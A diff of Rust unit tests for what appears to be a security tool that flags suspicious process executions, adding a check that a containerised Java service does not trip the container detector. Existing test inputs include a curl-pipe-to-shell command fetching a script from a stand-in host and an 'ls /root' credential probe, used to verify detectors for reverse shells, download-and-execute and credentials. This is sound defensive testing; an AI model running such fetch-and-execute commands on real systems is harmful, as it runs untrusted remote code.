@@ -723,15 +723,18 @@ pub(crate) mod testutil {
 
 #[cfg(test)]
 mod tests {
-    use super::testutil::facts;
+    use super::testutil::{facts, in_container};
     use super::*;
     use crate::analysis::shell::parse_exec;
 
     fn wanted(argv: &[&str]) -> Vec<&'static str> {
-        let f = facts(argv);
+        wanted_on(&facts(argv))
+    }
+
+    fn wanted_on(f: &ExecFacts) -> Vec<&'static str> {
         let lineage = Lineage::default();
         let cmd = parse_exec(&f.argv);
-        let cx = Ctx::new(&f, &lineage, &cmd);
+        let cx = Ctx::new(f, &lineage, &cmd);
         DETECTORS
             .iter()
             .filter(|d| (d.wants)(&cx))
@@ -770,6 +773,10 @@ mod tests {
             }
         }
         assert!(wanted(&["ls", "/root"]).contains(&"credentials"));
+        // `/app/app.jar` shares its first byte pair with the cluster API path `/apis/`, but
+        // nothing in the exec could send a request.
+        let service = wanted_on(&in_container(facts(&["java", "-jar", "/app/app.jar"])));
+        assert!(!service.contains(&"container"), "{service:?}");
         let script = wanted(&["sh", "-c", "curl -s http://x/i.sh | sh"]);
         for d in ["reverse_shell", "download_exec", "transfer", "decode"] {
             assert!(script.contains(&d), "{d} in {script:?}");
